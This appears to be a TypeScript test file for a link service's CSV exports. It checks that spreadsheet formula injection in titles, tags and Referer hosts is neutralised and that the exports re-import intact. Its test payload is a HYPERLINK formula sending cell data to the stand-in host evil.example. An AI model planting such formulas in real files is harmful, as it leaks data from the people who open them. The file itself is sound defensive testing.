// Security review (issue 36, item 5): text a visitor or a user typed that a spreadsheet would run
// as a formula (a Referer host, a link's title, description, tags) is neutralised in the CSV
// exports, and Linkwell's own importer reads those exports back to the very same values.
import { beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { useTestApp } from '../../helpers/test-app.js'
import { commandLineActor } from '../../../src/modules/changes/change-journal.js'
import { writeEnrichedClicks } from '../../../src/analytics/click-writer.js'
import { totalsOf } from './source-databases.js'

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

async function* linesOf(text: string): AsyncGenerator<string> {
  yield* text.split(/\r?\n/)
}

describe('formula cells in the CSV exports', () => {
  const from = useTestApp()
  const into = useTestApp()
  let links = ''
  let clicks = ''

  beforeAll(async () => {
    const { context, owner, api } = from
    const one = await api('POST', '/api/url/add', { url: 'https://example.com/f-one', custom: 'f-one', metatitle: FORMULA, metadescription: '@SUM(1+1)', tags: ['=cmd', '-minus'] })
    const two = await api('POST', '/api/url/add', { url: 'https://example.com/f-two', custom: 'f-two', metatitle: "'=already quoted", metadescription: "'plain quote" })
    const three = await api('POST', '/api/url/add', { url: 'https://example.com/f-three', custom: 'f-three', metatitle: '-5', metadescription: '+dial' })
    expect([one.statusCode, two.statusCode, three.statusCode], one.body + two.body + three.body).toEqual([201, 201, 201])
    const click = (itemId: number, referrerHost: string) => ({
      accountId: owner.id, itemType: 'link' as const, itemId, createdAt: '2024-05-01 10:00:00', referrerHost, language: 'en', visitorHash: 'seed', country: 'US',
      agent: { browser: 'Chrome', os: 'Windows', device: 'desktop' }, isUnique: true,
    })
    await context.database.db.transaction().execute((trx) => writeEnrichedClicks(trx, [click(one.data.id, FORMULA), click(one.data.id, '-evil.example'), click(two.data.id, "'quoted.example")]))
    links = (await api('GET', '/api/export/links?format=csv')).body
    clicks = (await api('GET', '/api/export/clicks?format=csv')).body
  })

  it('writes no cell a spreadsheet would run, in the links and the clicks export', () => {
    for (const text of [links, clicks]) {
      const cells = (parse(text) as string[][]).flat()
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    }
    expect(clicks).toContain(`"'${FORMULA.replace(/"/g, '""')}"`)
    expect(links).toContain(`"'${FORMULA.replace(/"/g, '""')}"`)
  })

  it('reads the exports back into another instance with the same values', async () => {
    const job = await into.context.services.imports.importLinkwell(commandLineActor(into.owner.id), {
      linksName: 'links.csv', links, clicks: { name: 'clicks.csv', open: () => linesOf(clicks) }, onconflict: 'fail',
    })
    expect(job, job.error ?? '').toMatchObject({ state: 'done', links_created: 3, rows_skipped: 0, clicks_imported: 3 })
    const exported = async (session: typeof from) => (JSON.parse((await session.api('GET', '/api/export/links?format=json')).body) as Record<string, unknown>[])
      .map(({ alias, title, description, tags }) => ({ alias, title, description, tags })).sort((a, b) => String(a.alias).localeCompare(String(b.alias)))
    expect(await exported(into)).toEqual([
      { alias: 'f-one', title: FORMULA, description: '@SUM(1+1)', tags: ['-minus', '=cmd'] },
      { alias: 'f-three', title: '-5', description: '+dial', tags: [] },
      { alias: 'f-two', title: "'=already quoted", description: "'plain quote", tags: [] },
    ])
    expect(await exported(into)).toEqual(await exported(from))
    const referrers = async (session: typeof from, alias: string) => {
      const db = session.context.database.db
      const link = await db.selectFrom('links').select('id').where('account_id', '=', session.owner.id).where('alias', '=', alias).executeTakeFirstOrThrow()
      return (await totalsOf(db, link.id)).referrer
    }
    expect(await referrers(into, 'f-one')).toEqual({ [FORMULA]: 1, '-evil.example': 1 })
    expect(await referrers(into, 'f-two')).toEqual({ "'quoted.example": 1 })
  })
})
